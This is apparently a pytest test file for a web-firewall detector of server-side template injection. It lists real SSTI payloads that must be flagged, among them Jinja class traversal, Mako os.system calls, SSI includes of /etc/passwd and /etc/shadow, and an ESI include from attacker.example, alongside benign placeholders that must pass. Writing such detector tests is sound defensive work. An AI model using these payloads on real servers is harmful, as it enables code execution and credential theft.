"""Server-side template injection detector: probes, traversal, directives, placeholders that must pass."""

from __future__ import annotations

import pytest
from family_cases import family_suite

from hullguard.firewall.detectors import ssti
from hullguard.firewall.detectors.base import ScanContext

CTX = ScanContext()


@pytest.mark.parametrize(
    ("payload", "rule_id"),
    [
        ("{{7*7}}", "HG-SSTI-001"),
        ("${ 3 * 3 }", "HG-SSTI-001"),
        ("<%= 7 * 7 %>", "HG-SSTI-001"),
        ("{{4*4}}[[5*5]]", "HG-SSTI-001"),
        ("@(1+2)", "HG-SSTI-001"),
        ("{{config}}", "HG-SSTI-002"),
        ("{{ ''.__class__.__mro__[2].__subclasses__() }}", "HG-SSTI-002"),
        ("{{joiner.__init__.__globals__.os}}", "HG-SSTI-002"),
        ("{% for k, v in config.iteritems() %}{{ k }}{% endfor %}", "HG-SSTI-002"),
        ("{{'a'.toUpperCase()}}", "HG-SSTI-002"),
        ("${self.module.cache.util.os.system(\"id\")}", "HG-SSTI-002"),
        ("<#assign ex = \"freemarker.template.utility.Execute\"?new()>", "HG-SSTI-003"),
        ("#set($e=\"e\")$e.getClass()", "HG-SSTI-003"),
        ("{php}echo `id`;{/php}", "HG-SSTI-003"),
        ("__${7*7}__::.x", "HG-SSTI-003"),
        ("<% @users.each do |u| %>", "HG-SSTI-003"),
        ('<!--#include file="../../../../etc/passwd" -->', "HG-SSTI-004"),
        ('<!--#include virtual="/etc/shadow"-->', "HG-SSTI-004"),
        ("<!--#printenv -->", "HG-SSTI-004"),
        ('<!-- #echo var="DOCUMENT_ROOT" -->', "HG-SSTI-004"),
        ('<!--#config errmsg="x"--><!--#fsize file="index.shtml" -->', "HG-SSTI-004"),
        ('<esi:include src="http://attacker.example/x.html"/>', "HG-SSTI-004"),
        ("<ESI:VARS>$(HTTP_COOKIE)</ESI:VARS>", "HG-SSTI-004"),
    ],
)
def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
    found = ssti.scan(payload, CTX)
    assert found is not None and found.rule_id == rule_id, found


@pytest.mark.parametrize(
    "value",
    [
        "https://x.bidswitch.net/sync?dsp_id=59&user_id={{UUID}}&ssp=medianet",
        "https://sync.example.com/partner?uid=${USER_ID}&img=1",
        "utm_content={{ad.name}}&utm_campaign={{campaign.name}}",
        "Call us @(555-1234)",
        "<% percent %>",
        "<!-- saved from the editor -->",
        "<!--[if lt IE 9]><script src=\"/js/html5shiv.js\"></script><![endif]-->",
        "<!-- #region header --><h1>Hello</h1>",
        "Sizes: <!--#--> and # not a directive",
        '<!--#exec cmd="id" -->',  # the command-injection family reports it (HG-CMDI-008)
    ],
)
def test_unexpanded_placeholders_and_text_pass(value: str) -> None:
    assert ssti.scan(value, CTX) is None


def test_body_window_is_bounded() -> None:
    # An opener whose closer is far away is judged on a bounded window, so "{{" + 1 MB costs linear time.
    assert ssti.scan("{{" + "a" * 1_000_000 + "7*7}}", CTX) is None


@pytest.mark.parametrize("text", ["${" * 2_000, "__${" * 1_000, "{{" * 2_000 + "}}", "#{" * 1_000 + "}" * 1_000])
def test_bodies_of_many_openers_add_up_to_a_bounded_length(text: str) -> None:
    # Overlapping bodies would make the work (openers x body length) quadratic: 4 KB of "${" took 440 ms.
    bodies = ssti._bodies(text)
    assert sum(len(body) for _, _, body in bodies) <= ssti._MAX_TOTAL
    assert ssti.scan(text, CTX) is None


def test_nested_and_unclosed_expressions_are_still_judged() -> None:
    assert ssti.scan("#{${7*7}}", CTX) is not None
    assert ssti.scan("${{7*7}", CTX) is not None
    assert ssti.scan("{{ config.items() ", CTX) is not None


(
    test_corpus_and_handwritten_detection_rate,
    test_handwritten_benign_values_pass,
    test_benign_query_strings_false_positive_rate,
    test_prefilter_is_a_necessary_condition,
    test_adversarial_inputs_complete,
    test_rule_catalogue_is_complete,
) = family_suite(ssti, "ssti", ["{{", "${", "<%", "{{7*", "#set($", "{{''.__class__", "[[", "<#assign "], 100)


@pytest.mark.parametrize(
    "payload",
    [
        '${request.getAttribute("cmd")}',  # EL: the request's attribute map
        '#{session.setAttribute("admin", true)}',
        '${m.setAccessible(true)}',  # reflection past Java's access checks
        '${new File("/etc/hostname").text}',  # Groovy: an I/O class built in the expression
        '${new URL("http://10.0.0.1/").getText()}',
        '${this.evaluate("6*7")}',  # Groovy's evaluate() of a string
        "${self.module.runtime.util.os}",  # Mako: the template module's imports
        "{% load log %}{% get_admin_log 5 as entries %}",  # Django: the admin action log
        "{{ messages.storages.0.signer.key }}",  # Django: the message signer, keyed with SECRET_KEY
    ],
)
def test_el_groovy_mako_and_django_primitives_are_reported(payload: str) -> None:
    found = ssti.scan(payload, CTX)
    assert found is not None and found.rule_id == "HG-SSTI-002", (payload, found)


@pytest.mark.parametrize(
    "value",
    [
        "`\u00a9 ${new Date().getFullYear()} Example Ltd`",  # a JS template literal: Date is no I/O class
        "Please evaluate the draft by Friday",
        "{{ user.name }}",
        "{% for item in cart.items %}{{ item.title }}{% endfor %}",
        "${session.id}",
    ],
)
def test_template_code_without_those_primitives_passes(value: str) -> None:
    assert ssti.scan(value, CTX) is None


def test_a_scriptlet_printing_a_dotted_variable_is_a_placeholder() -> None:
    """Mail-merge text ("Dear <%= user.name %>,") prints data; a read of the process, the framework's
    secrets or a private member is still reported."""
    placeholders = ("Dear <%= user.name %>,", "<%= @user.name %>", "<%= order.id %>", "<%= _csrf %>", "<%= file %>")
    for placeholder in placeholders:
        assert ssti.scan(placeholder, CTX) is None, placeholder
    for read in ("<%= Rails.application.secrets.secret_key_base %>", "<%= this.constructor %>", "<%= a.b.c.d %>"):
        assert ssti.scan(read, CTX) is not None, read
